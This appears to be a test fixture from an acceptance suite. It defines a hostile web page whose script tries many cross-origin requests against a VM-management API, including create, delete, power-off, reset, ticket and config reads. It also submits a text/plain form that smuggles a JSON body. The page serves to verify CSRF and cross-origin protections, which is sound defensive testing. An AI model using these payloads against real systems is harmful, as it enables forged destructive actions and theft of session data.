import { BASE } from '../accept/curl.ts'

/** Tries every way of a web page to send a request elsewhere, and keeps what it could read. */
export const hostilePage = `<!doctype html><title>x</title><body><iframe name="sink"></iframe><script>
  const target = '${BASE}'
  window.read = []
  const keep = async (response) => {
    if (response.type !== 'opaque') window.read.push(await response.text())
  }
  const body = JSON.stringify({ id: 'planted' })
  const ways = [
    fetch(target + '/api/vms', { method: 'POST', mode: 'no-cors', body, credentials: 'include' }),
    fetch(target + '/api/vms', { method: 'POST', body, credentials: 'include' }),
    fetch(target + '/api/vms', { credentials: 'include' }),
    fetch(target + '/api/vms/kept', { method: 'DELETE', credentials: 'include' }),
    fetch(target + '/api/vms/power/kept', { method: 'PATCH', body: 'off', credentials: 'include' }),
    fetch(target + '/api/vms/kept/reset', { method: 'POST', mode: 'no-cors', credentials: 'include' }),
    fetch(target + '/api/ui/ticket', { method: 'POST', credentials: 'include' }),
    fetch(target + '/ui/config.json', { credentials: 'include' }),
  ]
  navigator.sendBeacon(target + '/api/vms', body)
  const form = document.createElement('form')
  form.action = target + '/api/vms'
  form.method = 'post'
  form.enctype = 'text/plain'
  form.target = 'sink'
  const field = document.createElement('input')
  field.name = '{"id":"planted","x":"'
  field.value = '"}'
  form.append(field)
  document.body.append(form)
  form.submit()
  Promise.allSettled(ways.map((way) => way.then(keep))).then(() => document.body.append('tried'))
</script>`
